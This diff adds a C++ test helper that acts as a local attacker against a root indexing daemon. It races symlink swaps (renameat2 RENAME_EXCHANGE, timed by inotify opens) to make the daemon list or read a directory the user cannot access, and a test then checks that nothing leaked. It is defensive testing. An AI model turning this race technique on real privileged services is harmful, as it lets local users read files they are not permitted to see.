@@ -1,0 +1,352 @@
+// wsindex_swap_attacker: the local user of issue #33, who tries to make the root daemon (or a
+// root walker) list, stat or read a directory she cannot read by swapping a symlink into a path
+// of her own at the moment the daemon is at work in it.
+//
+// Run as root with --uid/--gid: it drops to that user for real (setgroups, setresgid,
+// setresuid) before touching anything, so every file it makes is hers and the kernel checks
+// her rights. Then, in BASE (a directory she owns):
+//
+//   BASE/m/<every component of TARGET>/   her own directories, spelling the target's path
+//                                         (the last one, the "leaf", holds her files mine-N)
+//   BASE/L -> LINK                        a symlink ("/" unless --link says otherwise)
+//
+// so that BASE/m/<TARGET> names her leaf, and after renameat2(BASE/m, BASE/L, RENAME_EXCHANGE)
+// the same string names TARGET itself. It watches every directory of the chain with inotify
+// IN_OPEN and, each time someone opens one of them or a file in them, exchanges m with L,
+// holds the swap for a moment (cycling through a few durations, so that some opens that follow
+// the first one fall inside a swap whatever the daemon's pace), and exchanges them back. One
+// swap cycle is one attempt.
+//
+// It counts the swaps made while an open of one of its directories or files was in progress:
+// its own exchange shows up in the same inotify queue (IN_MOVED_FROM on BASE), so the queue's
+// order says whether the open's IN_CLOSE came before or after the swap. A test asserts that
+// count is positive (the race was exercised) next to its real assertion (nothing leaked).
+//
+// Triggers make the daemon come and work in the chain, between swap cycles (never while
+// swapped, so they act on her own directories):
+//   none     the test drives the daemon itself (a scan, dupes)
+//   rename   rename a file of the leaf back and forth (a named change in the leaf)
+//   attrib   change the leaf's own mode back and forth (the leaf re-listed whole)
+//   many     create and remove more than 256 names beside the leaf (a whole re-listing of the
+//            leaf's parent)
+//   subdir   rename the leaf away and back (a new subdirectory appears in its parent)
+//
+// Stops after --attempts swap cycles, after --seconds, or when stdin reaches end of file. Prints
+// "ready <leaf>" once the chain exists (a test waits for it), and at the end one line:
+//   swaps=N during_open=N opens=N triggers=N exchange_errors=N elapsed_ms=N
+// Exit 0, or 2 on bad arguments or a failed drop, 3 when the chain cannot be built.
+#include <fcntl.h>
+#include <grp.h>
+#include <linux/fs.h>
+#include <poll.h>
+#include <sys/inotify.h>
+#include <sys/prctl.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include <cerrno>
+#include <chrono>
+#include <csignal>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <ctime>
+#include <map>
+#include <string>
+#include <vector>
+
+namespace {
+
+using Clock = std::chrono::steady_clock;
+
+struct Options {
+    uid_t uid = 0;
+    gid_t gid = 0;
+    std::vector<gid_t> groups;
+    std::string base;
+    std::string target;
+    std::string link = "/";
+    int files = 3;
+    long attempts = 1000;
+    double seconds = 10;
+    std::string trigger = "none";
+    std::string content = "mine";  // what her files hold
+};
+
+[[noreturn]] void die(int code, const std::string& what) {
+    std::fprintf(stderr, "swap_attacker: %s: %s\n", what.c_str(), std::strerror(errno));
+    std::exit(code);
+}
+
+bool parse(int argc, char** argv, Options& o) {
+    for (int i = 1; i + 1 < argc; i += 2) {
+        const std::string k = argv[i];
+        const char* v = argv[i + 1];
+        if (k == "--uid") {
+            o.uid = static_cast<uid_t>(std::strtoul(v, nullptr, 10));
+        } else if (k == "--gid") {
+            o.gid = static_cast<gid_t>(std::strtoul(v, nullptr, 10));
+        } else if (k == "--groups") {  // comma-separated supplementary gids
+            for (const char* p = v; *p != '\0';) {
+                char* end = nullptr;
+                o.groups.push_back(static_cast<gid_t>(std::strtoul(p, &end, 10)));
+                p = *end == ',' ? end + 1 : end;
+                if (end == p && *p != '\0') return false;
+            }
+        } else if (k == "--base") {
+            o.base = v;
+        } else if (k == "--target") {
+            o.target = v;
+        } else if (k == "--link") {
+            o.link = v;
+        } else if (k == "--files") {
+            o.files = std::atoi(v);
+        } else if (k == "--attempts") {
+            o.attempts = std::atol(v);
+        } else if (k == "--seconds") {
+            o.seconds = std::atof(v);
+        } else if (k == "--trigger") {
+            o.trigger = v;
+        } else if (k == "--content") {
+            o.content = v;
+        } else {
+            return false;
+        }
+    }
+    return (argc % 2) == 1 && o.uid != 0 && !o.base.empty() && o.target.size() > 1 &&
+           o.target[0] == '/' &&
+           (o.trigger == "none" || o.trigger == "rename" || o.trigger == "attrib" ||
+            o.trigger == "many" || o.trigger == "subdir");
+}
+
+void drop_to(const Options& o) {
+    if (::setgroups(o.groups.size(), o.groups.data()) != 0) die(2, "setgroups");
+    if (::setresgid(o.gid, o.gid, o.gid) != 0) die(2, "setresgid");
+    if (::setresuid(o.uid, o.uid, o.uid) != 0) die(2, "setresuid");
+    uid_t r = 0, e = 0, s = 0;
+    if (::getresuid(&r, &e, &s) != 0 || r == 0 || e == 0 || s == 0) die(2, "still root");
+    // Set after the drop: a change of credentials clears it.
+    ::prctl(PR_SET_PDEATHSIG, SIGKILL);
+}
+
+int exchange(const std::string& a, const std::string& b) {
+    return static_cast<int>(
+        ::syscall(SYS_renameat2, AT_FDCWD, a.c_str(), AT_FDCWD, b.c_str(), RENAME_EXCHANGE));
+}
+
+void write_file(const std::string& path, const std::string& content) {
+    const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+    if (fd < 0) die(3, "create " + path);
+    if (::write(fd, content.data(), content.size()) != static_cast<ssize_t>(content.size())) {
+        die(3, "write " + path);
+    }
+    ::close(fd);
+}
+
+// Busy-waits: a sleep would give the CPU away and stretch the hold unpredictably.
+void hold(std::chrono::microseconds d) {
+    const auto until = Clock::now() + d;
+    while (Clock::now() < until) {
+    }
+}
+
+struct Attacker {
+    Options o;
+    std::string m, l, leaf, parent;  // BASE/m, BASE/L, the leaf, the leaf's parent
+    int in = -1;
+    int base_wd = -1;
+    std::map<int, std::string> chain_wds;  // watch -> directory
+    long swaps = 0, during_open = 0, opens = 0, triggers = 0, exchange_errors = 0;
+    int in_progress = 0;  // opens minus closes seen in the queue so far
+    // IN_MOVED_FROM events on BASE that one swap cycle makes (measured before the run), and
+    // those seen since: the first of each cycle's events marks its swap in the queue.
+    long moves_per_cycle = 0;
+    long moves_seen = 0;
+    long trigger_step = 0;
+
+    void build() {
+        m = o.base + "/m";
+        l = o.base + "/L";
+        std::string dir = m;
+        if (::mkdir(dir.c_str(), 0755) != 0) die(3, "mkdir " + dir);
+        std::vector<std::string> dirs{dir};
+        for (std::size_t i = 1; i <= o.target.size(); ++i) {
+            if (i < o.target.size() && o.target[i] != '/') continue;
+            const std::size_t start = o.target.rfind('/', i - 1);
+            const std::string part = o.target.substr(start + 1, i - start - 1);
+            if (part.empty()) continue;
+            parent = dir;
+            dir += "/" + part;
+            if (::mkdir(dir.c_str(), 0755) != 0) die(3, "mkdir " + dir);
+            dirs.push_back(dir);
+        }
+        leaf = dir;
+        for (int i = 0; i < o.files; ++i)
+            write_file(leaf + "/mine-" + std::to_string(i), o.content);
+        if (::symlink(o.link.c_str(), l.c_str()) != 0) die(3, "symlink " + l);
+        in = ::inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
+        if (in < 0) die(3, "inotify_init1");
+        // The watches follow the inodes: a swapped m still reports opens of her directories.
+        for (const std::string& d : dirs) {
+            const int wd = ::inotify_add_watch(in, d.c_str(), IN_OPEN | IN_CLOSE | IN_ONLYDIR);
+            if (wd < 0) die(3, "inotify_add_watch " + d);
+            chain_wds[wd] = d;
+        }
+        base_wd = ::inotify_add_watch(in, o.base.c_str(), IN_MOVED_FROM | IN_ONLYDIR);
+        if (base_wd < 0) die(3, "inotify_add_watch " + o.base);
+        // How many IN_MOVED_FROM one swap cycle queues (one or two per exchange, by kernel).
+        if (exchange(m, l) != 0 || exchange(m, l) != 0) die(3, "renameat2 RENAME_EXCHANGE");
+        alignas(inotify_event) char buf[4096];
+        for (ssize_t n; (n = ::read(in, buf, sizeof buf)) > 0;) {
+            for (ssize_t off = 0; off < n;) {
+                const auto* ev = reinterpret_cast<const inotify_event*>(buf + off);
+                off += static_cast<ssize_t>(sizeof(inotify_event) + ev->len);
+                if (ev->wd == base_wd && (ev->mask & IN_MOVED_FROM) != 0) ++moves_per_cycle;
+            }
+        }
+    }
+
+    // Reads what the queue holds; true if it saw an open of the chain.
+    bool drain() {
+        alignas(inotify_event) char buf[64 * 1024];
+        bool opened = false;
+        for (;;) {
+            const ssize_t n = ::read(in, buf, sizeof buf);
+            if (n <= 0) break;
+            for (ssize_t off = 0; off < n;) {
+                const auto* ev = reinterpret_cast<const inotify_event*>(buf + off);
+                off += static_cast<ssize_t>(sizeof(inotify_event) + ev->len);
+                if (ev->wd == base_wd) {
+                    if ((ev->mask & IN_MOVED_FROM) == 0) continue;
+                    if (moves_per_cycle > 0 && moves_seen % moves_per_cycle == 0 &&
+                        in_progress > 0) {
+                        ++during_open;
+                    }
+                    ++moves_seen;
+                    continue;
+                }
+                if ((ev->mask & IN_OPEN) != 0) {
+                    ++opens;
+                    ++in_progress;
+                    opened = true;
+                }
+                if ((ev->mask & IN_CLOSE) != 0 && in_progress > 0) --in_progress;
+            }
+        }
+        return opened;
+    }
+
+    void swap_cycle() {
+        static constexpr int kHoldsUs[] = {0, 20, 100, 400, 1500};
+        const auto held = std::chrono::microseconds(kHoldsUs[swaps % 5]);
+        if (exchange(m, l) != 0) {
+            ++exchange_errors;
+            return;
+        }
+        ++swaps;
+        hold(held);
+        // Back, whatever happens: her tree must be hers again before the next trigger.
+        while (exchange(m, l) != 0) ++exchange_errors;
+    }
+
+    void trigger() {
+        ++triggers;
+        const long k = trigger_step++;
+        if (o.trigger == "rename") {
+            const std::string a = leaf + "/mine-0", b = leaf + "/mine-0.renamed";
+            if ((k % 2) == 0) {
+                (void)::rename(a.c_str(), b.c_str());
+            } else {
+                (void)::rename(b.c_str(), a.c_str());
+            }
+        } else if (o.trigger == "attrib") {
+            (void)::chmod(leaf.c_str(), (k % 2) == 0 ? 0775 : 0755);
+        } else if (o.trigger == "many") {
+            // More names than the coalescer keeps for one directory.
+            for (int i = 0; i < 300; ++i) {
+                const std::string p = parent + "/churn-" + std::to_string(i);
+                if ((k % 2) == 0) {
+                    write_file(p, "");
+                } else {
+                    (void)::unlink(p.c_str());
+                }
+            }
+        } else if (o.trigger == "subdir") {
+            const std::string away = parent + "/away";
+            if ((k % 2) == 0) {
+                (void)::rename(leaf.c_str(), away.c_str());
+            } else {
+                (void)::rename(away.c_str(), leaf.c_str());
+            }
+        }
+    }
+
+    // Leaves the tree as built: the leaf in place, mine-0 under its own name, no churn.
+    void tidy() {
+        if (o.trigger == "subdir" && (trigger_step % 2) == 1) {
+            (void)::rename((parent + "/away").c_str(), leaf.c_str());
+        }
+        if (o.trigger == "rename" && (trigger_step % 2) == 1) {
+            (void)::rename((leaf + "/mine-0.renamed").c_str(), (leaf + "/mine-0").c_str());
+        }
+        if (o.trigger == "attrib") (void)::chmod(leaf.c_str(), 0755);
+        if (o.trigger == "many" && (trigger_step % 2) == 1) {
+            for (int i = 0; i < 300; ++i)
+                (void)::unlink((parent + "/churn-" + std::to_string(i)).c_str());
+        }
+    }
+
+    void run() {
+        const auto start = Clock::now();
+        const auto until = start + std::chrono::duration_cast<Clock::duration>(
+                                       std::chrono::duration<double>(o.seconds));
+        pollfd fds[2] = {{in, POLLIN, 0}, {STDIN_FILENO, POLLIN, 0}};
+        while (swaps < o.attempts && Clock::now() < until) {
+            // A trigger when the daemon has been idle in the chain for a short while.
+            const int rc = ::poll(fds, 2, o.trigger == "none" ? 100 : 5);
+            if (rc < 0 && errno != EINTR) die(3, "poll");
+            if ((fds[1].revents & (POLLIN | POLLHUP)) != 0) {
+                char c;
+                if (::read(STDIN_FILENO, &c, 1) <= 0) break;
+            }
+            if ((fds[0].revents & POLLIN) != 0) {
+                if (drain()) swap_cycle();
+                continue;
+            }
+            if (rc == 0 && o.trigger != "none") {
+                // Nothing for one poll: the daemon is done with the last change.
+                trigger();
+            }
+        }
+        drain();  // the last exchanges' events
+        tidy();
+        const auto ms =
+            std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - start).count();
+        std::printf(
+            "swaps=%ld during_open=%ld opens=%ld triggers=%ld exchange_errors=%ld "
+            "elapsed_ms=%lld\n",
+            swaps, during_open, opens, triggers, exchange_errors, static_cast<long long>(ms));
+        std::fflush(stdout);
+    }
+};
+
+}  // namespace
+
+int main(int argc, char** argv) {
+    Attacker a;
+    if (!parse(argc, argv, a.o)) {
+        std::fprintf(stderr,
+                     "usage: swap_attacker --uid U --gid G [--groups G,G] --base DIR --target "
+                     "/ABS [--link /] [--files N] [--attempts N] [--seconds S] [--trigger "
+                     "none|rename|attrib|many|subdir] [--content TEXT]\n");
+        return 2;
+    }
+    drop_to(a.o);
+    ::umask(022);
+    a.build();
+    std::printf("ready %s\n", a.leaf.c_str());
+    std::fflush(stdout);
+    a.run();
+    return 0;
+}
